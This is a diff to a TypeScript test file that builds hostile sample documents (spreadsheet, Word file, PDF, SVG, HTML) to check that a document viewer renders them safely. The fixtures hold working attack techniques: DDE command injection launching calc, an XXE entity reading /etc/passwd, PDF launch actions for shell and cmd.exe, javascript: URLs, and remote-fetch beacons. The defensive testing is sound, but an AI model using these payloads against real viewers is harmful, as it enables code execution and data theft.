@@ -263,12 +263,16 @@ async function showsHostilePapers(desk: Desk, origin: string): Promise<void> {
   const screen = await sideBySide(desk, caseId);
   const shown = screen.rows.filter(({ status, kind }) => status === 'read' && kind !== 'record');
   expect(shown.map(({ fileName }) => fileName).sort()).toEqual([
+    'figures.xlsx',
     'form.html',
+    'frames.html',
     'huge.png',
+    'launch.pdf',
     'letter.docx',
     'mail.eml',
     'plan.svg',
     'script.pdf',
+    'style.svg',
   ]);
   for (const { exhibit, title } of shown) {
     await screen.open(exhibit);
@@ -301,8 +305,36 @@ function hostile(origin: string): Readonly<Record<string, string | Uint8Array>> 
   header.writeUInt32BE(100_000, 20);
   header.set([8, 6], 24);
   const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+  const sheets = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+  const types = 'application/vnd.openxmlformats-officedocument';
   return {
     'form.html': markup,
+    'frames.html': `<base href="${origin}/"><p>Words</p>${asking(origin)}${framing(origin, run)}`,
+    'figures.xlsx': storedZip({
+      '[Content_Types].xml': `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="${types}.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${types}.spreadsheetml.worksheet+xml"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="${types}.spreadsheetml.externalLink+xml"/></Types>`,
+      '_rels/.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${relations}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
+      'xl/workbook.xml': `<?xml version="1.0"?><workbook xmlns="${sheets}" xmlns:r="${relations}"><sheets><sheet name="Log" sheetId="1" r:id="r1"/></sheets><externalReferences><externalReference r:id="r2"/></externalReferences></workbook>`,
+      'xl/_rels/workbook.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${relations}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="${relations}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`,
+      'xl/externalLinks/externalLink1.xml': `<?xml version="1.0"?><externalLink xmlns="${sheets}"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A1" advise="1"/></ddeItems></ddeLink></externalLink>`,
+      'xl/worksheets/sheet1.xml': `<?xml version="1.0"?><worksheet xmlns="${sheets}" xmlns:r="${relations}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Date</t></is></c><c r="B1" t="inlineStr"><is><t>Note</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>3 May 2023</t></is></c><c r="B2" t="str"><f>WEBSERVICE("${origin}/web")</f><v>Rang</v></c></row><row r="3"><c r="A3" t="str"><f>cmd|'/c calc'!A1</f><v>4 May 2023</v></c><c r="B3" t="str"><f>IMAGE("${origin}/image.png")</f><v>Wrote</v></c></row></sheetData><hyperlinks><hyperlink ref="B2" r:id="r9"/></hyperlinks></worksheet>`,
+      'xl/worksheets/_rels/sheet1.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="${relations}/hyperlink" Target="${origin}/cell" TargetMode="External"/></Relationships>`,
+    }),
+    'style.svg': `<?xml version="1.0"?><?xml-stylesheet href="${origin}/sheet.css"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="90" height="90"><style>@import url(${origin}/style.css); text { fill: url(${origin}/fill.svg#a) }</style><filter id="f"><feImage href="${origin}/filter.png"/></filter><use href="${origin}/use.svg#a"/><foreignObject width="90" height="90"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${origin}/foreign.png"/><script>${run}</script></body></foreignObject><a href="javascript:${run}"><animate attributeName="href" values="${origin}/a"/><text filter="url(#f)" y="20">Words</text></a></svg>`,
+    'launch.pdf': `%PDF-1.7
+1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> /Next << /S /GoToR /F << /FS /URL /F (${origin}/remote.pdf) >> /D [0 /Fit] >> >> /AA << /WC << /S /JavaScript /JS (this.submitForm('${origin}/close')) >> >> /Names << /EmbeddedFiles << /Names [(setup.exe) 5 0 R] >> /JavaScript << /Names [(a) << /S /JavaScript /JS (app.launchURL('${origin}/name')) >>] >> >> >> endobj
+2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
+3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /AA << /O << /S /URI /URI (${origin}/opened) >> >> /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /I 7 0 R >> >>
+/Annots [ << /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /Launch /F << /FS /URL /F (${origin}/launch) >> >> >> << /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >> ] >> endobj
+4 0 obj << /Length 57 >> stream
+BT /F 24 Tf 9 9 Td (Words) Tj ET q 90 0 0 90 9 99 cm /I Do Q
+endstream endobj
+5 0 obj << /Type /Filespec /F (setup.exe) /UF (setup.exe) /EF << /F 6 0 R >> >> endobj
+6 0 obj << /Type /EmbeddedFile /Length 12 >> stream
+MZ\u0090program..
+endstream endobj
+7 0 obj << /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8 /F << /FS /URL /F (${origin}/picture.png) >> /Length 0 >> stream
+endstream endobj
+trailer << /Root 1 0 R >>`,
     'mail.eml': `From: Ana <ana@post.example>\r\nSubject: Mail\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${markup}`,
     'plan.svg': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100000" height="100000" onload="${run}"><script>${run}</script><image xlink:href="${origin}/i.png"/><foreignObject><iframe src="${origin}/f"/></foreignObject><text>Plan</text></svg>`,
     'huge.png': header,
@@ -318,8 +350,43 @@ trailer << /Root 1 0 R >>`,
     'letter.docx': storedZip({
       '[Content_Types].xml': `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
       '_rels/.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${relations}/officeDocument" Target="word/document.xml"/></Relationships>`,
-      'word/_rels/document.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="${relations}/attachedTemplate" Target="${origin}/t.dotm" TargetMode="External"/><Relationship Id="l" Type="${relations}/hyperlink" Target="file:///etc/passwd" TargetMode="External"/></Relationships>`,
-      'word/document.xml': `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${relations}"><w:body><w:p><w:hyperlink r:id="l"><w:r><w:t>Words of a letter</w:t></w:r></w:hyperlink></w:p></w:body></w:document>`,
+      'word/_rels/document.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="${relations}/attachedTemplate" Target="${origin}/t.dotm" TargetMode="External"/><Relationship Id="l" Type="${relations}/hyperlink" Target="file:///etc/passwd" TargetMode="External"/><Relationship Id="p" Type="${relations}/image" Target="${origin}/linked.png" TargetMode="External"/><Relationship Id="o" Type="${relations}/oleObject" Target="${origin}/object.xlsx" TargetMode="External"/><Relationship Id="c" Type="${relations}/aFChunk" Target="${origin}/chunk.html" TargetMode="External"/></Relationships>`,
+      'word/document.xml': `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${relations}"><w:body><w:p><w:hyperlink r:id="l"><w:r><w:t>Words of a letter</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="p"/></w:drawing><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Excel.Sheet.12" r:id="o" UpdateMode="Always"/></w:object></w:r><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot; "/><w:fldSimple w:instr=" INCLUDEPICTURE &quot;${origin}/field.png&quot; "/></w:p><w:altChunk r:id="c"/></w:body></w:document>`,
     }),
   };
+}
+
+/** Everything of HTML that asks for something as it is shown, or when somebody points at it. */
+function asking(origin: string): string {
+  const links = [
+    'prefetch',
+    'preload',
+    'dns-prefetch',
+    'preconnect',
+    'prerender',
+    'modulepreload',
+    'icon',
+    'manifest',
+    'alternate stylesheet',
+  ];
+  return `${links.map((rel) => `<link rel="${rel}" href="${origin}/${rel.replace(' ', '')}" as="image">`).join('')}
+<style>@import "${origin}/import.css"; @font-face { font-family: f; src: url(${origin}/font.woff2) } p { font-family: f; cursor: url(${origin}/cursor.png), auto } p::before { content: url(${origin}/before.png) }</style>
+<p style="background: image-set(url(${origin}/set.png) 1x)">Words</p>
+<img srcset="${origin}/set.png 2x" src="//${origin.replace('http://', '')}/no-scheme.png" lowsrc="${origin}/low.png" dynsrc="${origin}/dyn.png">
+<picture><source srcset="${origin}/source.png"><img src="${origin}/picture.png"></picture>
+<table background="${origin}/table.png"><tr><td background="${origin}/cell.png">Words</td></tr></table>
+<video src="${origin}/video.mp4" poster="${origin}/poster.png" autoplay><track src="${origin}/track.vtt" default></video><audio src="${origin}/audio.mp3" autoplay></audio>
+<input type="image" src="${origin}/input.png"><a href="${origin}/link" ping="${origin}/ping">link</a>
+<svg><image href="${origin}/svg.png"/><use href="${origin}/use.svg#a"/></svg><math href="${origin}/math"><mi>x</mi></math>
+<template shadowrootmode="open"><img src="${origin}/shadow.png"></template><dialog open><img src="${origin}/dialog.png"></dialog>
+<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${origin}/speculated"]}],"prerender":[{"source":"list","urls":["${origin}/rendered"]}]}</script>`;
+}
+
+/** Everything of HTML that shows another page inside it. */
+function framing(origin: string, run: string): string {
+  const page = `<script>${run}</script><img src=${origin}/inner.png>`;
+  return `<portal src="${origin}/portal"></portal><fencedframe src="${origin}/fenced"></fencedframe>
+<iframe src="data:text/html,${encodeURIComponent(page)}"></iframe><iframe srcdoc="${page.replaceAll('"', '&quot;')}"></iframe><iframe src="blob:null/0b0b" ></iframe><iframe src="${origin}/frame" loading="lazy" credentialless></iframe>
+<object data="data:text/html,${encodeURIComponent(page)}"></object><embed src="${origin}/embed"><applet code="${origin}/applet"></applet>
+<frameset><frame src="${origin}/frameset"></frameset><webview src="${origin}/webview"></webview>`;
 }
